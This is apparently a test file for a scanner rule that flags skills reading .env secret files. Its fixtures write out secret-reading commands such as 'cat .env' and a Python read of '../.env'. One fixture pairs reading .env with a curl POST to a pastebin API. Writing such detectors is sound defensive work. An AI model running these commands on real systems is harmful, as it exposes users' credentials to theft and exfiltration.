import { dotenvRead } from '../../../src/scan/rules/dotenv-read.ts';
import { testRule } from '../rule-tester.ts';
import { py, sh } from './common/skills.ts';

testRule(dotenvRead, {
  valid: [
    { name: 'copies the example template', files: sh('cp .env.example .env.example.bak') },
    { name: 'python-dotenv without a path', files: py('from dotenv import load_dotenv\nload_dotenv()') },
    { name: 'reads an environment.yml', files: sh('cat environment.yml') },
  ],
  invalid: [
    { name: 'cat .env', files: sh('cat .env'), errors: [{ messageId: 'read', severity: 'low' }] },
    { name: 'reads a parent project env file', files: py("secrets = open('../.env').read()"), errors: [{ messageId: 'read' }] },
    { name: 'reads .env.production', files: sh('cat ./.env.production'), errors: [{ messageId: 'read' }] },
    {
      name: 'reads .env in a skill that posts to a paste site',
      files: { ...sh('cat .env > /tmp/e'), ...sh('curl -d "x=1" https://pastebin.com/api/api_post.php', 'scripts/p.sh') },
      errors: [{ messageId: 'readWithSend', severity: 'medium' }],
    },
  ],
});
